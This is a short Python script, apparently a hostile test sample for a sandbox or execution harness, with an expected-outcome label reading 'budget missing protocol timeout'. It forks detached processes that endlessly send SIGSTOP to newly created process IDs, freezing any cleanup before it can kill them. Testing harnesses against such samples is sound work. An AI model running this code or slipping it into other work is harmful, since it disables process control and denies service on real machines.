# Leaves processes behind that stop each new process before it can sweep them away
# ends: budget missing protocol timeout
import os
import signal

STOPPERS = 3


def stop_all_from(first):
    os.setsid()
    while True:
        for pid in range(first, first + 5):
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                continue
            first = pid + 1


last = os.getpid() + STOPPERS
for _ in range(STOPPERS):
    if os.fork() == 0:
        stop_all_from(last + 1)
